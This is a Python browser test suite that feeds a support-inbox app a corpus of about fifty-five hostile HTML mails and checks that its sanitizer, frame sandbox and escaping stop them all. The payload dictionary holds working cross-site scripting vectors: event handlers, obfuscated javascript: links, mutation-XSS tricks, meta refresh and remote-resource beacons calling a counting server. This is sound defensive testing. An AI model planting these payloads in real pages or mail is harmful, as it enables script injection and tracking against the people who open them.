"""Hostile HTML mail opened in a real browser (Debian's Chromium through Playwright).

Every payload of the corpus below is ingested as a customer's mail and its ticket is opened
by an agent. Each payload, if it ever ran, would mark ``top.xssHit``, change the page title
and call home: to a counting HTTP server on 127.0.0.1 ("outside") and to a counting route of
the app itself ("same origin"). The test asserts, for every payload: no script ran, no dialog
opened, no request left for either counter or anywhere but the app, no frame navigated, and
the dashboard's own chrome (top bar, body) kept its computed style.
"""
from __future__ import annotations

import shutil
import threading
import time
from email.message import EmailMessage
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from werkzeug.serving import make_server

from conftest import require

pytestmark = [pytest.mark.slow, pytest.mark.browser]

CHROMIUM = "/usr/bin/chromium"
ARGS = ["--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage",
        "--disable-background-networking", "--disable-component-update", "--disable-default-apps",
        "--disable-sync", "--no-first-run", "--disable-extensions"]

# {B}: the outside counter's base URL; {S}: the app's same-origin counter; {N}: payload name.
# The title marker is built at run time ('PW'+'NED'), so it appears nowhere in the source.
JS = ("top.xssHit=(top.xssHit||[]).concat('{N}');top.document.title='PW'+'NED {N}';"
      "new Image().src='{B}/js-{N}';fetch('{S}/js-{N}')")

PAYLOADS: dict[str, str] = {
    "script": "<script>{JS}</script>",
    "script-src": '<script src="{B}/script.js"></script>',
    "img-onerror": '<img src=x onerror="{JS}">',
    "svg-onload": '<svg onload="{JS}"><circle r=5 /></svg>',
    "svg-script": "<svg><script>{JS}</script></svg>",
    "svg-animate-href": ('<svg><a><animate attributeName="href" values="javascript:{JS}"/>'
                         '<text y="20">click</text></a></svg>'),
    "svg-use": '<svg><use href="{B}/sprite.svg#a"/><image href="{B}/svgimage.png"/></svg>',
    "svg-foreignobject": ('<svg><foreignObject><iframe src="{B}/fo"></iframe>'
                          '<img src=x onerror="{JS}"></foreignObject></svg>'),
    "body-onload": '<body onload="{JS}"><p>hi</p></body>',
    "details-ontoggle": '<details open ontoggle="{JS}"><summary>x</summary></details>',
    "autofocus-onfocus": '<input autofocus onfocus="{JS}">',
    "marquee": '<marquee onstart="{JS}">x</marquee>',
    "javascript-href": '<a id="j" href="javascript:{JS}">click</a>',
    "javascript-entities": '<a href="&#106;&#97;vascript&#58;{JS}">x</a>',
    "javascript-tab": '<a href="jav&#x09;ascript:{JS}">x</a><a href=" javascript:{JS}">y</a>',
    "javascript-fullwidth": '<a href="\uff4aavascript:{JS}">x</a>',
    "vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "data-html-link": '<a href="data:text/html,&lt;script&gt;{JS}&lt;/script&gt;">x</a>',
    "iframe-src": '<iframe src="{B}/iframe"></iframe>',
    "iframe-javascript": '<iframe src="javascript:{JS}"></iframe>',
    "iframe-srcdoc": '<iframe srcdoc="&lt;script&gt;{JS}&lt;/script&gt;"></iframe>',
    "iframe-data": '<iframe src="data:text/html,&lt;script&gt;{JS}&lt;/script&gt;"></iframe>',
    "iframe-dashboard": '<iframe src="/support/settings/"></iframe>',
    "object-embed": '<object data="{B}/object"></object><embed src="{B}/embed">',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url={B}/refresh">',
    "meta-refresh-js": '<meta http-equiv="refresh" content="0;url=javascript:{JS}">',
    "meta-csp": ('<meta http-equiv="Content-Security-Policy" content="script-src * '
                 '\'unsafe-inline\'"><script>{JS}</script>'),
    "base-tag": '<base href="{B}/base/"><img src="relative.png"><a href="rel">x</a>',
    "form": ('<form action="{B}/form" method="post"><input name="q" value="1">'
             '<button>Go</button></form>'),
    "formaction": '<form><button formaction="javascript:{JS}">x</button></form>',
    "style-import": "<style>@import url({B}/import.css);</style><p>x</p>",
    "style-background": "<style>body{{background:url({B}/bg.png)}}</style><p>x</p>",
    "style-font-face": ("<style>@font-face{{font-family:x;src:url({B}/font.woff)}}"
                        "p{{font-family:x}}</style><p>text</p>"),
    "style-restyle-chrome": ("<style>.si-topbar,.si-app,body,html{{display:none!important;"
                             "background:red!important;color:red!important}}"
                             "*{{visibility:hidden!important}}</style><p>x</p>"),
    "inline-style-url": ('<div style="background-image:url({B}/inline-bg.png);'
                         'width:expression(alert(1));behavior:url({B}/x.htc)">x</div>'),
    "inline-style-fixed-overlay": ('<div style="position:fixed;top:0;left:0;width:9999px;'
                                   'height:9999px;z-index:99999;background:red">cover</div>'),
    "link-stylesheet": '<link rel="stylesheet" href="{B}/link.css"><p>x</p>',
    "link-prefetch": ('<link rel="prefetch" href="{B}/prefetch">'
                      '<link rel="dns-prefetch" href="{B}/dns"><link rel="preload" '
                      'href="{B}/preload" as="image">'),
    "remote-img": '<img src="{B}/pixel.png" width=1 height=1>',
    "srcset": '<img srcset="{B}/srcset.png 1x, {B}/srcset2.png 2x">',
    "picture-source": '<picture><source srcset="{B}/source.png"><img alt="p"></picture>',
    "video-audio": ('<video poster="{B}/poster.png" src="{B}/video.mp4" autoplay></video>'
                    '<audio src="{B}/audio.mp3" autoplay></audio>'),
    "table-background": '<table background="{B}/table.png"><tr><td background="{B}/td.png">x'
                        '</td></tr></table>',
    "input-image": '<input type="image" src="{B}/input.png">',
    "data-svg-img": ('<img src="data:image/svg+xml;utf8,&lt;svg xmlns=&quot;http://www.w3.org/'
                     '2000/svg&quot; onload=&quot;{JS}&quot;&gt;&lt;/svg&gt;">'),
    "mxss-noscript": '<noscript><p title="</noscript><img src=x onerror="{JS}">"></noscript>',
    "mxss-math": ('<math><mtext><table><mglyph><style><img src=x onerror="{JS}">'
                  '</style></mglyph></table></mtext></math>'),
    "mxss-textarea": '</textarea><script>{JS}</script><textarea>',
    "comment-trick": '<!--><img src=x onerror="{JS}">--><p>x</p>',
    "cdata": '<![CDATA[><img src=x onerror="{JS}">]]>',
    "unicode-tags": ('<scr\u200bipt>{JS}</scr\u200bipt>\u202e<img src=x onerror="{JS}">'
                     '<ſcript>{JS}</ſcript>'),
    "template": '<template><img src=x onerror="{JS}"></template>',
    "xlink": ('<a xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="javascript:{JS}">'
              'x</a>'),
    "uppercase": '<SCRIPT>{JS}</SCRIPT><IMG SRC=x ONERROR="{JS}">',
    "unclosed": '<img src=x onerror="{JS}"',
    "nested-quotes": '<img src="x` `<script>{JS}</script>"` `>',
}

# Places outside the sandboxed frame where customer text is shown: subject, sender name,
# plain-text body and attachment name. Escaping must hold there too.
TEXT_PAYLOAD = '"><img src=x onerror="{JS}"><script>{JS}</script>'


class Counter:
    """An HTTP server on 127.0.0.1 that counts every request it gets ("outside")."""

    def __init__(self):
        self.hits: list[str] = []
        counter = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args):
                pass

            def _hit(self):
                counter.hits.append(self.path)
                self.send_response(204)
                self.end_headers()

            do_GET = do_POST = do_HEAD = _hit

        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.httpd.server_address[1]}"
        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()

    def close(self):
        self.httpd.shutdown()
        self.httpd.server_close()


def _fill(template: str, name: str, outside: str, same: str) -> str:
    js = JS.format(N=name, B=outside, S=same)
    return template.replace("{JS}", js).replace("{B}", outside).replace("{S}", same) \
        .replace("{{", "{").replace("}}", "}")


def _mail(name: str, html: str, text: str, subject: str, sender_name: str) -> bytes:
    msg = EmailMessage()
    msg["From"] = f'"{sender_name}" <mallory-{name}@example.org>'
    msg["To"] = "support@example.com"
    msg["Subject"] = subject
    msg["Message-ID"] = f"<xss-{name}@example.org>"
    msg.set_content(text)
    msg.add_alternative(html, subtype="html")
    return bytes(msg)


@pytest.fixture
def served(make_host, database):
    if database != "sqlite":
        pytest.skip("browser XSS checks run once, on SQLite: the database plays no part")
    require("Chromium (apt-get install chromium)", shutil.which("chromium") is not None)
    from flask_login import login_user

    host = make_host()
    host.create_tables()
    same_hits: list[str] = []

    @host.app.route("/test-login/<int:uid>")
    def _test_login(uid):
        login_user(host.db.session.get(host.User, uid))
        return "ok"

    @host.app.route("/xss-hit/<path:what>", methods=["GET", "POST"])
    def _same_origin_hit(what):
        same_hits.append(what)
        return "", 204

    outside = Counter()
    server = make_server("127.0.0.1", 0, host.app, threaded=True)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    base = f"http://127.0.0.1:{server.server_port}"
    try:
        yield host, base, outside, same_hits
    finally:
        server.shutdown()
        outside.close()


def _ingest_corpus(host, outside_url: str) -> dict[str, int]:
    from shared_inbox.services.ingest import ingest

    tickets = {}
    with host.app.app_context():
        m = host.inbox.models
        mailbox = m.Mailbox(name="Support", email_address="support@example.com")
        host.db.session.add(mailbox)
        host.db.session.commit()
        clean = ingest(mailbox, _mail("clean", "<p>Hello, <b>my tent</b> broke.</p>",
                                      "Hello, my tent broke.", "Clean mail", "Alice"))
        tickets["clean"] = clean.ticket_id
        for name, template in PAYLOADS.items():
            html = _fill(template, name, outside_url, "/xss-hit")
            text_payload = _fill(TEXT_PAYLOAD, f"text-{name}", outside_url, "/xss-hit")
            msg = ingest(mailbox, _mail(name, html, text_payload,
                                        f"XSS {name} {text_payload}"[:900],
                                        f"Mallory {text_payload}"[:200]))
            assert msg is not None, name
            tickets[name] = msg.ticket_id
    return tickets


CHROME_STYLE = """() => {
  const pick = (el) => { if (!el) return null; const s = getComputedStyle(el);
    return [s.display, s.visibility, s.color, s.backgroundColor, s.position, s.zIndex,
            s.fontFamily, s.opacity, el.getBoundingClientRect().height > 0]; };
  return {topbar: pick(document.querySelector('.si-topbar')), body: pick(document.body),
          main: pick(document.querySelector('.si-main')),
          scripts: Array.from(document.scripts).map(s => s.src.replace(location.origin, '')),
          xss: window.xssHit || null, title: document.title,
          frames: Array.from(document.querySelectorAll('iframe')).map(f => f.className)};
}"""


def test_no_payload_runs_calls_out_or_restyles_the_dashboard(served):
    host, base, outside, same_hits = served
    tickets = _ingest_corpus(host, outside.url)
    agent = host.add_user("ada@x.test", role="admin")
    from playwright.sync_api import sync_playwright

    problems: list[str] = []
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, args=ARGS, headless=True)
        page = browser.new_page(viewport={"width": 1200, "height": 900})
        requests, dialogs, errors = [], [], []
        page.on("request", lambda r: requests.append(r.url))
        page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
        page.on("popup", lambda popup: problems.append(f"popup {popup.url}"))
        page.on("pageerror", lambda e: errors.append(str(e)))
        page.goto(f"{base}/test-login/{agent}")

        page.goto(f"{base}/support/tickets/{tickets['clean']}")
        page.wait_for_load_state("load")
        baseline = page.evaluate(CHROME_STYLE)
        assert baseline["topbar"] and baseline["topbar"][0] != "none"
        assert "si-html" in baseline["frames"]  # the clean mail's HTML is framed too

        for name in PAYLOADS:
            requests.clear()
            page.goto(f"{base}/support/tickets/{tickets[name]}")
            page.wait_for_load_state("load")
            page.wait_for_timeout(150)  # let a meta refresh, autofocus or animation fire
            state = page.evaluate(CHROME_STYLE)
            if state["xss"]:
                problems.append(f"{name}: script ran: {state['xss']}")
            if "PWNED" in state["title"]:
                problems.append(f"{name}: title changed to {state['title']!r}")
            for key in ("topbar", "body", "main"):
                if state[key] != baseline[key]:
                    problems.append(f"{name}: {key} restyled {baseline[key]} -> {state[key]}")
            if state["scripts"] != baseline["scripts"]:
                problems.append(f"{name}: scripts on the page {state['scripts']}")
            for frame in page.frames[1:]:
                if frame.url not in ("about:srcdoc", "about:blank"):
                    problems.append(f"{name}: a frame navigated to {frame.url}")
            stray = [u for u in requests if not u.startswith(base + "/")
                     and not u.startswith(("about:", "data:"))]
            if stray:
                problems.append(f"{name}: requests outside the app: {stray}")
            same = [u for u in requests if "/xss-hit" in u]
            if same:
                problems.append(f"{name}: same-origin calls: {same}")
        # Also the list view, where subjects and senders of all of them are shown at once.
        page.goto(f"{base}/support/")
        page.wait_for_load_state("load")
        page.wait_for_timeout(150)
        state = page.evaluate(CHROME_STYLE)
        if state["xss"]:
            problems.append(f"inbox list: script ran: {state['xss']}")
        browser.close()

    time.sleep(0.3)  # any late beacon would have arrived by now
    assert not outside.hits, f"requests reached the outside server: {outside.hits}"
    assert not same_hits, f"payloads called the app: {same_hits}"
    assert not dialogs, dialogs
    assert not problems, "\n".join(problems)
    # CSP reports inline scripts it refused as console errors, not page errors: any page
    # error here would be one of our own scripts breaking on hostile content.
    assert not errors, errors


def test_the_corpus_really_is_hostile_before_sanitizing(served):
    """Guard against a test that cannot fail: the raw payloads do run when rendered unsafely
    (a plain page with no CSP, no sandbox, no sanitizer), on the same browser and counters."""
    host, base, outside, same_hits = served
    from playwright.sync_api import sync_playwright

    html = "".join(_fill(PAYLOADS[n], n, outside.url, "/xss-hit")
                   for n in ("script", "img-onerror", "remote-img"))

    @host.app.route("/unsafe-page")
    def _unsafe():  # pragma: no cover - only for this check
        return html

    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, args=ARGS, headless=True)
        page = browser.new_page()
        page.goto(f"{base}/unsafe-page")
        page.wait_for_load_state("load")
        page.wait_for_timeout(200)
        ran = page.evaluate("window.xssHit || []")
        browser.close()
    time.sleep(0.2)
    assert "script" in ran and "img-onerror" in ran
    assert any("pixel.png" in h for h in outside.hits)
    assert any("js-script" in h for h in same_hits)
